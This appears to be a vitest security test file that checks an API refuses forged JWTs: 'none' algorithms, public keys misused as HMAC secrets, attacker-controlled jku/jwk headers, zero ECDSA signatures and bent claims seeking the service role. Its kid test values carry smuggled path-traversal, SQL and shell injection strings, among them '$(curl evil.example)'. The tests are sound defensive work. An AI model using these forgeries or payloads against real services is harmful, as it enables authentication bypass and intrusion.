/**
 * Forged and altered access tokens, beyond test/middleware/forged-tokens: RFC 8725, RFC 7515 sections 4.1 and 10, RFC 7797,
 * and the known faults of JWT libraries. No token is accepted, none causes a database call, and no URL in one is fetched.
 */
import { CompactEncrypt, CompactSign, exportJWK, exportSPKI, type JWTHeaderParameters } from 'jose';
import { describe, expect, inject, it } from 'vitest';
import { call, settings } from '../support/api.ts';
import { newHostedProject, newSigningKey } from '../support/hosted-sessions.ts';
import { accessToken, inSeconds, newAdmin, operatorSql } from '../support/people.ts';
import { expectProblem } from '../support/problems.ts';

const encoder = new TextEncoder();
const [rsa, ec, attackers] = await Promise.all([
  newSigningKey('RS256'),
  newSigningKey('ES256'),
  newSigningKey('ES256'),
]);
const project = await newHostedProject([rsa, ec]);
const elsewhere = await newHostedProject([attackers]);
/** The account that is worth forging: an admin. */
const victim = await newAdmin();
const claims = {
  sub: victim.userId,
  iss: project.issuer,
  aud: 'authenticated',
  role: 'authenticated',
  exp: inSeconds(3600),
};
const embedded = settings();
/** A project that is moving from a secret to published keys accepts both. */
const moving = { ...project.settings, SUPABASE_JWT_SECRET: inject('jwtSecret') };

const base64url = (bytes: Uint8Array | string) =>
  btoa(String.fromCharCode(...(typeof bytes === 'string' ? encoder.encode(bytes) : bytes)))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '');

/** A token of exactly these texts: JSON that no writer produces, and a header that no library would sign. */
async function hs256(header: string, payload: string, secret: Uint8Array | string): Promise<string> {
  const bytes = typeof secret === 'string' ? encoder.encode(secret) : secret;
  const input = `${base64url(header)}.${base64url(payload)}`;
  const key = await crypto.subtle.importKey(
    'raw',
    // Web Crypto rejects an empty key. HMAC pads keys with zeros (RFC 2104), so 64 zero bytes give the same result.
    bytes.length === 0 ? new Uint8Array(64) : new Uint8Array(bytes),
    { name: 'HMAC', hash: 'SHA-256' },
    false,
    ['sign'],
  );
  const signature = await crypto.subtle.sign('HMAC', key, encoder.encode(input));
  return `${input}.${base64url(new Uint8Array(signature))}`;
}
const HS256 = '{"alg":"HS256","typ":"JWT"}';
const genuine = (payload: string, header = HS256) => hs256(header, payload, inject('jwtSecret'));

async function expectRefused(token: string, env: object = project.settings): Promise<void> {
  const before = await project.counts();
  const answer = await call('GET /clients', { token, env });
  expectProblem(answer, 401, answer.json.code === 'token_expired' ? 'token_expired' : 'token_invalid');
  expect((await project.counts()).restCalls).toBe(before.restCalls);
}

it('the same claims under each published key -> 200', async () => {
  for (const key of [rsa, ec]) {
    const token = await project.token(key, claims);
    expect((await call('GET /clients', { token, env: project.settings })).status).toBe(200);
  }
  const plain = JSON.stringify({ ...claims, iss: undefined });
  expect((await call('GET /clients', { token: await genuine(plain) })).status).toBe(200);
});

describe('no algorithm', async () => {
  const [, payload = '', signature = ''] = (await project.token(ec, claims)).split('.');
  it.each([
    'none',
    'None',
    'NONE',
    'nOnE',
    ' none',
    'none ',
    'none\0',
    'nonе',
    'n\u006fne',
    'null',
    'undefined',
    'false',
    '0',
    '',
    'HS0',
    'plain',
    'ES256 ',
    'es256',
    'Es256',
    'ES256K',
    'ES384',
    'EdDSA',
    'dir',
    'A256GCMKW',
    'RSA-OAEP',
    'PBES2-HS256+A128KW',
    '__proto__',
    'constructor',
    'toString',
  ])('alg "%s" -> 401', async (alg) => {
    for (const kid of [ec.jwk.kid, rsa.jwk.kid, undefined]) {
      const header = base64url(JSON.stringify({ alg, kid, typ: 'JWT' }));
      for (const token of [
        `${header}.${payload}.`,
        `${header}.${payload}`,
        `${header}.${payload}.${signature}`,
        `${header}.${payload}.AA`,
      ]) {
        await expectRefused(token);
        await expectRefused(token, embedded);
      }
    }
  });

  it.each(['null', '0', 'true', '[]', '{}', '["ES256"]', '["none"]', '{"toString":"ES256"}'])(
    'alg %s -> 401',
    async (alg) => {
      await expectRefused(`${base64url(`{"alg":${alg}}`)}.${payload}.${signature}`);
      await expectRefused(`${base64url(`{"alg":${alg}}`)}.${payload}.`, embedded);
    },
  );

  it('given twice, in either order -> 401', async () => {
    for (const header of [
      '{"alg":"none","alg":"ES256"}',
      '{"alg":"ES256","alg":"none"}',
      '{"alg":"HS256","alg":"ES256"}',
      '{"alg":"ES256","alg":"HS256"}',
    ]) {
      await expectRefused(`${base64url(header)}.${payload}.`);
      await expectRefused(await hs256(header, JSON.stringify(claims), await exportSPKI(ec.publicKey)));
    }
  });
});

describe('a published key, used as an HS256 secret', async () => {
  const secrets: [string, Uint8Array | string][] = [];
  for (const [name, key] of [
    ['RSA', rsa],
    ['EC', ec],
  ] as const) {
    const pem = await exportSPKI(key.publicKey);
    const der = new Uint8Array((await crypto.subtle.exportKey('spki', key.publicKey)) as ArrayBuffer);
    const members = await exportJWK(key.publicKey);
    secrets.push(
      [`${name} SPKI PEM`, pem],
      [`${name} SPKI PEM, one line`, pem.replaceAll('\n', '')],
      [`${name} SPKI PEM, CRLF`, pem.replaceAll('\n', '\r\n')],
      [`${name} SPKI PEM, line break at the end`, `${pem.trim()}\n`],
      [`${name} SPKI base64`, btoa(String.fromCharCode(...der))],
      [`${name} SPKI DER`, der],
      [`${name} PKCS#1 DER or point`, der.slice(name === 'RSA' ? 24 : 26)],
      [`${name} X.509 label`, pem.replaceAll('PUBLIC KEY', 'CERTIFICATE')],
      [`${name} JWK as published`, JSON.stringify(key.jwk)],
      [`${name} JWK, public members`, JSON.stringify(members)],
      [`${name} JWK, pretty`, JSON.stringify(key.jwk, null, 2)],
      [`${name} JWK set`, JSON.stringify({ keys: [rsa.jwk, ec.jwk] })],
      [`${name} kid`, key.jwk.kid ?? ''],
    );
    for (const [member, value] of Object.entries(members)) secrets.push([`${name} ${member}`, String(value)]);
  }
  secrets.push(
    ['nothing', ''],
    ['a zero byte', new Uint8Array(1)],
    ['32 zero bytes', new Uint8Array(32)],
    ['undefined', 'undefined'],
    ['null', 'null'],
    ['[object CryptoKey]', '[object CryptoKey]'],
    ['the publishable key', inject('publishableKey')],
    ['the issuer', project.issuer],
    ['a default of the local stack', 'super-secret-jwt-token-with-at-least-32-characters-long'],
    ['secret', 'secret'],
  );

  it.each(secrets)('%s -> 401', async (_, secret) => {
    for (const kid of [rsa.jwk.kid, ec.jwk.kid]) {
      const header = JSON.stringify({ alg: 'HS256', kid });
      for (const payload of [claims, { ...claims, role: 'service_role' }]) {
        const token = await hs256(header, JSON.stringify(payload), secret);
        await expectRefused(token);
        await expectRefused(token, moving);
        await expectRefused(token, embedded);
      }
    }
  });
});

describe('a header that points to a key of the attacker', async () => {
  const jwk = { ...(await exportJWK(attackers.publicKey)), kid: ec.jwk.kid };
  const there = `${elsewhere.issuer}/.well-known/jwks.json`;
  const kid = ec.jwk.kid ?? '';
  const headers: [string, Partial<JWTHeaderParameters> & Record<string, unknown>][] = [
    ['jku, with the URL of the keys of the attacker', { jku: there, kid: attackers.jwk.kid ?? '' }],
    ['jku, under the published kid', { jku: there, kid }],
    ['x5u', { x5u: there, kid }],
    ['jwk', { jwk, kid }],
    ['jwk alone', { jwk, kid: undefined as never }],
    ['x5c with a key that is not a certificate', { x5c: [await exportSPKI(attackers.publicKey)], kid }],
    ['iss in the header', { iss: elsewhere.issuer, kid: attackers.jwk.kid ?? '' }],
    ...[
      '../../../../../../../dev/null',
      '/dev/null',
      'file:///dev/null',
      '..\\..\\windows\\win.ini',
      `${kid}\0`,
      `${kid} `,
      ` ${kid}`,
      kid.toUpperCase(),
      `${kid}/../${kid}`,
      `${kid}#`,
      `${kid}' or '1'='1`,
      "' union select 'AA'--",
      '$(curl evil.example)',
      '`id`',
      '| id',
      '{{7*7}}',
      '%00',
      'constructor',
      'hasOwnProperty',
      '0',
      '-1',
      '*',
      '.*',
      'ｋｉｄ',
      '\u202e',
      '😀',
      '\ud800',
      'k'.repeat(5000),
    ].map((text): [string, Record<string, unknown>] => [
      `kid ${JSON.stringify(text.slice(0, 40))}`,
      { kid: text },
    ]),
  ];
  it.each(headers)('%s -> 401', async (_, header) => {
    await expectRefused(await project.token({ ...attackers, jwk: {} }, claims, header));
    // No URL was fetched.
    expect((await elsewhere.counts()).jwksFetches).toBe(0);
  });

  it('a token of another project, with that project as issuer -> 401, and its URL is not fetched', async () => {
    await expectRefused(await elsewhere.token(attackers, { ...claims, iss: elsewhere.issuer }));
    await expectRefused(await elsewhere.token(attackers, claims));
    expect((await elsewhere.counts()).jwksFetches).toBe(0);
  });
});

describe('a signature that is not valid', async () => {
  const [header = '', payload = ''] = (await project.token(ec, claims)).split('.');
  const N = '00FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551'.slice(2);
  const bytes = (hex: string) => Uint8Array.from(hex.match(/../g) ?? [], (pair) => Number.parseInt(pair, 16));
  it.each<[string, Uint8Array]>([
    ['of zeros (CVE-2022-21449)', new Uint8Array(64)],
    ['of the order of the group', bytes(N + N)],
    ['of ones', new Uint8Array(64).fill(0xff)],
    ['in DER, of zeros', bytes('3006020100020100')],
    ['of 63 bytes', new Uint8Array(63)],
    ['of 65 bytes', new Uint8Array(65)],
    ['of 4 KiB', new Uint8Array(4096)],
  ])('%s -> 401', async (_, signature) => {
    await expectRefused(`${header}.${payload}.${base64url(signature)}`);
  });
});

describe('headers under the right key that change what is verified', () => {
  const plain = { ...claims, iss: undefined };
  it.each([
    '{"alg":"HS256","crit":["exp"],"exp":1}',
    '{"alg":"HS256","crit":["x"],"x":1}',
    '{"alg":"HS256","crit":[]}',
    '{"alg":"HS256","crit":"b64"}',
    '{"alg":"HS256","crit":["alg"]}',
    '{"alg":"HS256","b64":false,"crit":["b64"]}',
    '["HS256"]',
    '"HS256"',
    'null',
    '{"alg":"HS256"',
  ])('%s -> 401', async (header) => {
    const token = await genuine(JSON.stringify(plain), header);
    await expectRefused(token, embedded);
  });

  // RFC 7797, section 6: without crit, b64 has no meaning; true is its default.
  it.each(['{"alg":"HS256","b64":false}', '{"alg":"HS256","crit":["b64"],"b64":true}'])(
    '%s -> the payload that is read is the payload that was signed',
    async (header) => {
      const token = await genuine(JSON.stringify(plain), header);
      expect((await call('GET /clients', { token })).status).toBe(200);
    },
  );

  it('an unencoded payload (RFC 7797) -> 401', async () => {
    const header = base64url('{"alg":"HS256","b64":false,"crit":["b64"]}');
    const detached = `${header}.${JSON.stringify(plain)}`;
    await expectRefused(`${detached}.AA`.replaceAll(/["{}:, ]/g, ''), embedded);
  });
});

describe('wrong claims under the right secret', () => {
  const bent = (members: string) =>
    genuine(`{"sub":"${victim.userId}","aud":"authenticated","role":"authenticated",${members}}`);
  it.each([
    ['"exp":"9999999999"'],
    ['"exp":null'],
    ['"exp":true'],
    ['"exp":[9999999999]'],
    ['"exp":{}'],
    ['"exp":-1'],
    ['"exp":0'],
    ['"exp":1e3'],
    ['"exp":9999999999,"exp":1'],
    ['"exp":9999999999,"nbf":"0"'],
    ['"exp":9999999999,"nbf":9999999998'],
    ['"exp":9999999999,"iat":"0"'],
    ['"exp":9999999999,"iat":9999999998'],
    ['"exp":9999999999,"iat":1e400'],
    ['"exp":9999999999,"role":["authenticated"]'],
    ['"exp":9999999999,"role":["service_role","authenticated"]'],
    ['"exp":9999999999,"role":"authenticated,service_role"'],
    ['"exp":9999999999,"role":"authenticated "'],
    ['"exp":9999999999,"role":"Authenticated"'],
    ['"exp":9999999999,"role":"postgres"'],
    ['"exp":9999999999,"role":"supabase_admin"'],
    ['"exp":9999999999,"role":{"toString":"authenticated"}'],
    ['"exp":9999999999,"role":null'],
    ['"exp":9999999999,"role":""'],
    ['"exp":9999999999,"aud":["other"]'],
    ['"exp":9999999999,"aud":{}'],
    ['"exp":9999999999,"iss":["x"]'],
    ['"exp":9999999999,"iss":""'],
    ['"exp":9999999999,"iss":null'],
    ['"exp":9999999999,"sub":"00000000-0000-0000-0000-000000000000\\u0000"'],
    [`"exp":9999999999,"sub":"${victim.userId}' or true--"`],
    [`"exp":9999999999,"sub":"{${victim.userId}}"`],
    [`"exp":9999999999,"sub":"urn:uuid:${victim.userId}"`],
    [`"exp":9999999999,"sub":" ${victim.userId}"`],
    [`"exp":9999999999,"sub":"${victim.userId.toUpperCase()}"`],
    ['"exp":9999999999,"sub":{}'],
  ])('%s -> 401', async (members) => {
    await expectRefused(await bent(members), embedded);
  });

  it.each(['[]', '"x"', 'null', '1', 'true', '', '{', '{"sub":', '\ufeff{}'])(
    'a payload of %s -> 401',
    async (payload) => {
      await expectRefused(await genuine(payload), embedded);
    },
  );

  it('the service role under any other secret -> 401, at the edge and at the database', async () => {
    const forged = await accessToken({ role: 'service_role', sub: victim.userId }, 'x'.repeat(40));
    await expectRefused(forged, embedded);
    const response = await fetch(`${inject('supabaseUrl')}/rest/v1/clients?select=id`, {
      headers: { apikey: inject('publishableKey'), authorization: `Bearer ${forged}` },
    });
    await response.text();
    expect(response.status).toBe(401);
  });

  it('members other than sub that name a user -> ignored', async () => {
    const account = crypto.randomUUID();
    await operatorSql(
      `insert into auth.users (id, aud, role, email, email_confirmed_at)
       values ($1, 'authenticated', 'authenticated', $2, now())`,
      [account, `${account}@example.test`],
    );
    const token = await accessToken({
      sub: account,
      email: victim.email,
      user_metadata: { is_admin: true, sub: victim.userId },
      app_metadata: { role: 'service_role', roles: ['admin'], is_admin: true },
      user_role: 'admin',
      is_super_admin: true,
      user_id: victim.userId,
      __proto__: { sub: victim.userId },
    });
    expect((await call('GET /clients', { token })).json).toEqual({ items: [], next_cursor: null });
  });
});

describe('serialisations that are not compact JWS', async () => {
  const token = await accessToken(claims.sub ? { sub: claims.sub } : {});
  const [header = '', payload = '', signature = ''] = token.split('.');
  const jwe = await new CompactEncrypt(encoder.encode(token))
    .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' })
    .encrypt(new Uint8Array(32));
  const nested = await new CompactSign(encoder.encode(token))
    .setProtectedHeader({ alg: 'HS256', cty: 'JWT' })
    .sign(encoder.encode(inject('jwtSecret')));

  it.each([
    ['a JWE around it', jwe],
    ['a JWS around it', nested],
    ['flattened JSON', JSON.stringify({ protected: header, payload, signature })],
    ['general JSON', JSON.stringify({ payload, signatures: [{ protected: header, signature }] })],
    ['padding on the header', `${header}=.${payload}.${signature}`],
    ['padding on the payload', `${header}.${payload}==.${signature}`],
    [
      'padding in the middle of the signature',
      `${header}.${payload}.${signature.slice(0, 20)}=${signature.slice(20)}`,
    ],
    ['four parts', `${token}.`],
    ['five parts', `${token}..`],
    ['an empty part before', `.${token}`],
    ['a line break', `${header}.${payload}.%0a${signature}`],
    ['percent encoding', encodeURIComponent(`${token}\n`)],
    ['itself twice', token + token],
  ])('%s -> 401', async (_, text) => {
    await expectRefused(text, embedded);
  });

  it('unused bits in the last character of the signature -> rejected, or accepted as the same account', async () => {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const last = alphabet.indexOf(signature.at(-1) ?? '');
    for (let other = 0; other < 64; other++) {
      if (other === last) continue;
      const bentToken = `${header}.${payload}.${signature.slice(0, -1)}${alphabet[other]}`;
      const answer = await call('GET /clients/me', { token: bentToken });
      // The 32 bytes are equal only if the four bits that count are equal.
      if (other >> 2 !== last >> 2) expectProblem(answer, 401, 'token_invalid');
      else expect([401, 404]).toContain(answer.status);
    }
  });
});
